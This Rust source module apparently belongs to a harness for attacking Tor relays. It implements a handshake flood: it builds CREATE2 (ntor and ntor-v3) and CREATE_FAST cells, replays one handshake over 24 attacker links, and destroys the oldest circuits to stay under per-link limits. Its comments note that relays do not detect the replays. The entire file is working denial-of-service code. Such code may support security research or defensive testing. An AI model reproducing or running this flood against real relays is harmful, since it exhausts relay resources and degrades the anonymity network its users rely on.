//! Floods of handshakes, which a relay computes for unauthenticated clients.

use super::attacker::{Attacker, LineId};
use super::{Attack, AttackError, AttackTarget};
use onion::cell::Command;
use onion::cell::msg::{Create2, HANDSHAKE_NTOR_V3};
use onion::cell_model::{CellModel, Handshake, Tor};
use onion::crypto::ntor_v3;
use std::collections::{BTreeMap, VecDeque};

/// Addresses of the attacker, with a link each.
const LINES: usize = 24;

/// Maximum number of open circuits of a link. Beyond it, the oldest is destroyed: its handshake is complete by then, and the link
/// reaches no limit on circuits.
const STANDING: usize = 400;

/// Repeats one handshake, which costs the attacker nothing. Relays do not detect replayed handshakes.
pub(super) struct Flood {
    command: Command,
    body: Vec<u8>,
    standing: BTreeMap<LineId, VecDeque<onion::cell::CircId>>,
}

impl Flood {
    fn new(command: Command, body: Vec<u8>) -> Self {
        Self { command, body, standing: BTreeMap::new() }
    }

    /// CREATE2 with ntor, for the correct keys.
    pub(super) fn ntor(target: &AttackTarget) -> Self {
        let (command, body) =
            <Tor as CellModel>::Handshake::ntor(target.relay(), [9; 32]).create_cell();
        Self::new(command, body)
    }

    /// CREATE2 with ntor-v3, for the correct keys. The client's MAC is wrong unless `is_right`.
    pub(super) fn ntor_v3(target: &AttackTarget, is_right: bool) -> Result<Self, AttackError> {
        let relay = target.relay();
        let wrong = |problem: &str| AttackError::Relay(problem.to_owned());
        let ed25519_id = relay.ids.ed25519.ok_or_else(|| wrong("no Ed25519 identity"))?;
        let keys = ntor_v3::RelayKeys { ed25519_id: ed25519_id.0, onion_key: relay.onion_key };
        let client =
            ntor_v3::Client::new(keys, [9; 32], &[0]).map_err(|error| wrong(&error.to_string()))?;
        let mut data = client.data().to_vec();
        if !is_right && let Some(last) = data.last_mut() {
            *last ^= 1;
        }
        let mut body = Vec::new();
        Create2 { handshake_type: HANDSHAKE_NTOR_V3, data: &data }.encode_into(&mut body);
        Ok(Self::new(Command::CREATE2, body))
    }

    /// CREATE_FAST.
    pub(super) fn fast() -> Self {
        let (command, body) = <Tor as CellModel>::Handshake::fast([9; 20]).create_cell();
        Self::new(command, body)
    }
}

impl Attack for Flood {
    fn act(&mut self, attacker: &mut Attacker) {
        let lines = attacker.keep(LINES);
        for line in lines {
            let standing = self.standing.entry(line).or_default();
            while attacker.can_send(line) {
                let circ_id = attacker.next_id(line);
                attacker.send(line, circ_id, self.command, &self.body);
                standing.push_back(circ_id);
                if standing.len() > STANDING
                    && let Some(oldest) = standing.pop_front()
                {
                    attacker.send(line, oldest, Command::DESTROY, &[0]);
                }
            }
        }
    }

    fn handle_lost(&mut self, line: LineId) {
        self.standing.remove(&line);
    }
}
